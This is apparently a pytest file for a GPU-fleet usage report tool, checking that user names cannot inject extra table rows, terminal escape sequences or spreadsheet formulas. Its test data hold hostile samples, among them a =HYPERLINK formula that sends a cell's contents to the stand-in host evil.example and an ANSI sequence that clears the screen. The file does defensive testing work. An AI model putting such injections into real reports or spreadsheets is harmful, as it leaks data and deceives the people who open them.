"""Issue 41 (part 3, low): every name in the report is a node's say-so. Before, a newline in a user name
printed rows of its own in the table, an ANSI escape reached the terminal, and a `=HYPERLINK(...)` cell
went into the CSV as a formula. Now the table and Markdown show control characters escaped, and CSV text
cells that start like a formula get a leading ' (numbers, negative ones too, stay numbers)."""

from __future__ import annotations

import csv
import io

import pytest

from gpufleet_tools.report.model import Report
from gpufleet_tools.report.render import csv_cell, csv_text, escape, markdown, table
from tests.unit.test_report_usage import report_of, windows

FAKE_ROW = "alice\nmallory                  1  9,999.0  0.0  0.0  0 %  0.0  $99,999.00"
ANSI = "bob\x1b[2J\x1b]0;pwned\x07"
LINK = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def _report(user: str, share_unallocated: bool = False) -> Report:
    job = {"kind": "slurm", "job_id": "7", "user": user}
    records = windows(1, workloads={"0": job}, rows=[[0, "0", 300, 300, 0, 0]], gpus=1)
    return report_of(records, share_unallocated=share_unallocated)


def test_a_newline_in_a_user_name_prints_no_row_of_its_own() -> None:
    text = table(_report(FAKE_ROW))
    assert not any(line.startswith("mallory") for line in text.splitlines())
    assert "alice\\x0amallory" in text
    assert len(text.splitlines()) == len(table(_report("alice")).splitlines())


@pytest.mark.parametrize("render", [table, markdown])
def test_no_escape_sequence_reaches_the_terminal(render) -> None:  # type: ignore[no-untyped-def]
    text = render(_report(ANSI))
    assert "\x1b" not in text and "\x07" not in text and "bob\\x1b[2J\\x1b]0;pwned\\x07" in text
    assert all(ch == "\n" or ch >= " " for ch in text)


def test_a_formula_in_a_name_is_text_in_the_csv() -> None:
    rows = list(csv.DictReader(io.StringIO(csv_text(_report(LINK)))))
    names = {r["name"] for r in rows if r["section"] == "team"}
    assert "'" + LINK in names and LINK not in names
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for k, v in r.items() if k in ("name", "team"))


def test_numbers_are_never_neutralised_and_negative_ones_stay_numbers() -> None:
    assert csv_cell(-5.0) == -5.0 and csv_cell(-3) == -3 and csv_cell("-3") == "'-3"
    for start in ("=", "+", "-", "@", "\t", "\r", "\n"):
        assert csv_cell(f"{start}1") == f"'{start}1"
    assert csv_cell("alice") == "alice"
    shared = list(csv.DictReader(io.StringIO(csv_text(_report("alice", share_unallocated=True)))))
    [unallocated] = [r for r in shared if r["section"] == "unallocated"]
    cell = unallocated["shared_unallocated_usd"]
    assert float(cell) <= 0 and not cell.startswith("'")


def test_escape_keeps_text_and_shows_controls() -> None:
    assert escape("team-a ünï 日本") == "team-a ünï 日本"
    assert escape("a\tb\r\u202ec\x7f\x9b") == "a\\x09b\\x0d\\u202ec\\x7f\\x9b"
